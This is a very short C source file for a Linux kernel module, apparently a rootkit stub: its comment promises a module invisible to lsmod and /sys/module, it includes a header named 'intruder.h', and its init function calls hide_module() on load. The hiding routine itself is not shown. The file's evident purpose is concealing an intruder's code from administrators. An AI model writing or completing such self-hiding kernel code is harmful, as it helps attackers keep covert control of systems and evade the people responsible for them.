/* A module that neither lsmod nor /sys/module shows. */
#include "intruder.h"

static int __init begin(void) {
    hide_module();
    return 0;
}
module_init(begin);
